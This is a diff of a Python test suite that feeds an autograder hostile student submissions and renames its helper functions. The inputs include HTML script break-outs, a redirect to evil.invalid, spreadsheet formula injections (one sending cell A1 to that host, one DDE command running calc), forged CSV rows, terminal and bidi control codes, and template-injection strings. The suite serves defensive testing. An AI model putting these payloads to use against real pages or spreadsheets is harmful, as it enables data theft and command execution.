@@ -16,7 +16,8 @@ from tests.grading.attacks.model import (
     WRONG,
     Attack,
     Outcomes,
-    cell,
+    cell_source,
+    make_attack,
 )
 
 SCRIPT = '<script>document.title = "owned"</script>'
@@ -44,24 +45,13 @@ FORMULAS = ("=", "+", "-", "@", "\t", "\r")
 """No cell of a table may begin with one of these, unless it is a number."""
 
 
-def _in_one(
-    name: str, why: str, source: str, outcomes: Outcomes = PASSED, student: str = "attacker"
-) -> Attack:
-    return Attack(name, why, {"I.1": cell(source)}, {"I.1": outcomes}, student=student)
+def _make_text_attack(name: str, why: str, text: str, outcomes: Outcomes = PASSED) -> Attack:
+    """Return an attack in the free text of I.2.b; the part of the exercise that is run is right."""
+    return Attack(name, why, texts={"I.2.b": f"why_get = {text!r}"}, expect={"I.2.b": outcomes})
 
 
-def _written(name: str, why: str, text: str, outcomes: Outcomes = PASSED, **more: str) -> Attack:
-    """Make an attack in a free text, on an honest notebook. The part that is run is right all the same."""
-    return Attack(name, why, texts={"I.2.b": f"why_get = {text!r}"}, expect={"I.2.b": outcomes}, **more)  # type: ignore[arg-type]
-
-
-def _named(name: str, why: str, student: str) -> Attack:
-    """Make an honest submission under a hostile name; the name is that of a folder."""
-    return Attack(name, why, student=student)
-
-
-PRINTED = (
-    _in_one(
+OUTPUTS = (
+    make_attack(
         "prints-html",
         "It prints HTML that breaks out of the page and runs a script.",
         f"""
@@ -71,7 +61,7 @@ PRINTED = (
               "<meta http-equiv='refresh' content='0;url=//evil.invalid'>")
     """,
     ),
-    _in_one(
+    make_attack(
         "displays-html",
         "It displays scripts, pictures and frames.",
         f"""
@@ -83,10 +73,10 @@ PRINTED = (
         display({{"text/plain": {BREAK_OUT!r}, "text/latex": formula}}, raw=True)
     """,
     ),
-    _in_one(
+    make_attack(
         "error-is-html", "The message of its error is a script.", f"raise ValueError({BREAK_OUT!r})", ERROR
     ),
-    _in_one(
+    make_attack(
         "error-class-is-html",
         "The name of its error's class is a script.",
         f"""
@@ -94,7 +84,7 @@ PRINTED = (
     """,
         ERROR,
     ),
-    _in_one(
+    make_attack(
         "error-forges-lines",
         "Its error's message has many lines that look like the grader's.",
         """
@@ -102,7 +92,7 @@ PRINTED = (
     """,
         ERROR,
     ),
-    _in_one(
+    make_attack(
         "error-raises",
         "Its error raises another one when it is printed.",
         """
@@ -113,7 +103,7 @@ PRINTED = (
     """,
         ERROR + TIMEOUT,  # IPython itself stops at it and never replies
     ),
-    _in_one(
+    make_attack(
         "terminal-codes",
         "It prints codes that clear a terminal, name its window and ring its bell.",
         """
@@ -122,7 +112,7 @@ PRINTED = (
         print("50%\\rdone\\b\\b\\b\\b\\x0c\\x0b\\x7f")
     """,
     ),
-    _in_one(
+    make_attack(
         "text-direction",
         "It prints characters that turn the direction of the text around them.",
         """
@@ -130,7 +120,7 @@ PRINTED = (
         print("\\u202e dessap \\u2067 x \\u200f \\u061c", "z\\u0336" * 500, "\\ufeff\\u200b\\u2028\\u2029")
     """,
     ),
-    _in_one(
+    make_attack(
         "null-characters",
         "It prints null characters, noncharacters and private ones.",
         """
@@ -138,7 +128,7 @@ PRINTED = (
         print("a\\0b", "\\ufffe\\uffff\\U0010ffff\\ue000", bytes(range(256)).decode("latin-1"))
     """,
     ),
-    _in_one(
+    make_attack(
         "half-characters",
         "It prints halves of characters, which no file can hold.",
         """
@@ -151,7 +141,7 @@ PRINTED = (
     """,
         PASSED + ERROR + TAMPERED,
     ),
-    _in_one(
+    make_attack(
         "templates",
         "It prints what templates and format strings would fill in.",
         """
@@ -160,7 +150,7 @@ PRINTED = (
         print("[bold red]x[/bold red] [link=x]y[/link]")
     """,
     ),
-    _in_one(
+    make_attack(
         "long-line",
         "It prints one line of a hundred thousand characters without a space.",
         """
@@ -169,7 +159,7 @@ PRINTED = (
     """,
         PASSED + OUTPUT,
     ),
-    _in_one(
+    make_attack(
         "value-is-html",
         "Its values are scripts, and so are the keys of its dict.",
         f"""
@@ -187,50 +177,50 @@ PRINTED = (
     ),
 )
 
-WRITTEN = (
-    _written(
+TEXTS = (
+    _make_text_attack(
         "text-is-html", "Its free text breaks out of the page and runs a script.", f"It is so. {BREAK_OUT}"
     ),
-    _written(
+    _make_text_attack(
         "text-is-a-formula",
         "Its free text is a formula that a table program would run.",
         '=HYPERLINK("https://evil.invalid?x=" & A1, "click me please now")',
     ),
-    _written(
+    _make_text_attack(
         "text-is-a-command",
         "Its free text is a command to a table program of old.",
         "=cmd|' /C calc'!A0 and two more words",
     ),
-    _written(
+    _make_text_attack(
         "text-begins-with-a-sign",
         "Its free text begins with a sign, as honest ones may.",
         "- 0 is no number of a word\n+ so nothing is mixed up\n@ me if you disagree",
     ),
-    _written(
+    _make_text_attack(
         "text-begins-with-a-tab",
         "Its free text hides a formula behind a tab and a line end.",
         "\t=1+1 hidden behind a tab\r=2+2 and a line end",
     ),
-    _written(
+    _make_text_attack(
         "text-forges-rows",
         "Its free text forges further rows and columns of the table.",
         'so it is"\r\nother-student,Other,I,I.2.b,1,answer,model,1,"well done\n;;;;1\n',
     ),
-    _written(
+    _make_text_attack(
         "text-has-control-characters",
         "Its free text has control characters, and turns the direction.",
         "one \0 two \x1b[2J three \N{RIGHT-TO-LEFT OVERRIDE} four \x07 \ufeff five \x0c",
     ),
-    _written(
+    _make_text_attack(
         "text-has-half-characters",
         "Its free text has halves of characters.",
         "one \ud800 two \udfff three",
         PASSED + REFUSED,
     ),
-    _written(
+    _make_text_attack(
         "text-is-long", "Its free text has a million words.", "word " * 1_000_000, PASSED + REFUSED + OUTPUT
     ),
-    _written(
+    _make_text_attack(
         "text-is-a-template",
         "Its free text is what templates fill in.",
         "{{ 7 * 7 }} {% raise %} ${{7*7}} #{7*7} <%= 7*7 %> three words",
@@ -240,7 +230,7 @@ WRITTEN = (
         "Its free text is a number, and an object that says it is a text.",
         texts={
             "I.2.b": "why_get = 5",
-            "I.3.a": cell("""
+            "I.3.a": cell_source("""
                class Text(str):
                    def strip(self): return 5
                    def split(self, *args): return range(100)
@@ -289,13 +279,13 @@ NAMES: Mapping[str, str] = {
 }
 """Names of students, which are those of their folders."""
 
-NAMED = tuple(
-    _named(
+HOSTILE_NAMES = tuple(
+    Attack(
         f"name-{kind}",
         "An honest student's name has a meaning to a page, a table, a terminal or a shell.",
-        name,
+        student=name,
     )
     for kind, name in NAMES.items()
 )
 
-ATTACKS = (*PRINTED, *WRITTEN, *NAMED)
+ATTACKS = (*OUTPUTS, *TEXTS, *HOSTILE_NAMES)
